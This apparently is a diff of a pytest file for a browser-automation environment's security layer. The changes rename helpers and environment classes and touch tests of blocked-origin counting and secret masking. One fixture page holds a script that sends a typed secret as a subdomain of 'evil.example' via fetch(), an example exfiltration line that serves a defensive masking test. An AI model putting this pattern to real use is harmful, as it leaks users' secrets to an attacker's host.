@@ -11,9 +11,9 @@ import pytest_asyncio
 from envs.browser.chromium import Chromium
 from envs.core.actions import ActionResult, Click, Goto, Type, Wait
 from envs.core.tasks import TaskRef
-from envs.security.blocked_requests import MAX_ORIGINS, OTHERS, BlockedOrigin, RequestKind, summed
+from envs.security.blocked_requests import MAX_ORIGINS, OTHERS, BlockedOrigin, RequestKind, merge_blocked_origins
 from envs.security.secrets import SecretVault
-from envs.suites.open_web import OpenEnvironment, OpenWorld
+from envs.suites.open_web import OpenEnvironment, OpenTaskSuite
 from tests.envs.browser.browsing import QUICK, Opener, click, ref_of, visit
 from tests.envs.browser.web import Answer, Web
 
@@ -40,7 +40,7 @@ KINDS: list[tuple[str, str, RequestKind]] = [
 
 @pytest_asyncio.fixture(loop_scope="session")
 async def environment(guarded: Chromium, web: Web, tmp_path: Path) -> AsyncIterator[OpenEnvironment]:
-    made = await OpenWorld(guarded, tmp_path, QUICK, instruction="look", url=web.url()).environment()
+    made = await OpenTaskSuite(guarded, tmp_path, QUICK, instruction="look", url=web.url()).environment()
     yield made
     await made.close()
 
@@ -101,7 +101,7 @@ async def test_origins_without_end_are_counted_together(environment: OpenEnviron
     await environment.reset(TASK)
     first = (await environment.observe()).blocked
     await environment.execute(Wait())
-    blocked = summed((*first, *(await environment.observe()).blocked))
+    blocked = merge_blocked_origins((*first, *(await environment.observe()).blocked))
     assert len(blocked) <= MAX_ORIGINS + 1
     assert blocked[-1].origin == OTHERS and blocked[-1].allow == ""
     assert sum(one.requests for one in blocked) == number
@@ -116,7 +116,9 @@ async def test_an_origin_is_reported_as_the_browser_parses_it(environment: OpenE
 
 async def test_a_secret_in_the_name_of_a_host_is_masked(guarded: Chromium, web: Web, tmp_path: Path) -> None:
     vault = SecretVault.declare(["PASSWORD=env:PW"], web.url(), {"PW": "Correct-Horse-1"})
-    environment = await OpenWorld(guarded, tmp_path, QUICK, instruction="x", url=web.url(), vault=vault).environment()
+    environment = await OpenTaskSuite(
+        guarded, tmp_path, QUICK, instruction="x", url=web.url(), vault=vault
+    ).environment()
     web["/"] = "<input id=q aria-label=Q><script>q.oninput = () => fetch(`https://${q.value}.evil.example/`)</script>"
     await environment.reset(TASK)
     seen = await environment.observe()
@@ -154,7 +156,7 @@ async def test_a_subresource_rule_opens_no_page(guarded: Chromium, tmp_path: Pat
     other = f"http://localhost:{web.port}"
     async with Chromium.launch(own_tls=True) as chromium:
         settings = QUICK.model_copy(update={"allow": ("subresources:localhost",)})
-        environment = await OpenWorld(chromium, tmp_path, settings, instruction="x", url=web.url()).environment()
+        environment = await OpenTaskSuite(chromium, tmp_path, settings, instruction="x", url=web.url()).environment()
         web["/app.js"] = "b.textContent = 'made by a script'"
         web["/secret"] = "<p>secret</p>"
         web["/"] = (
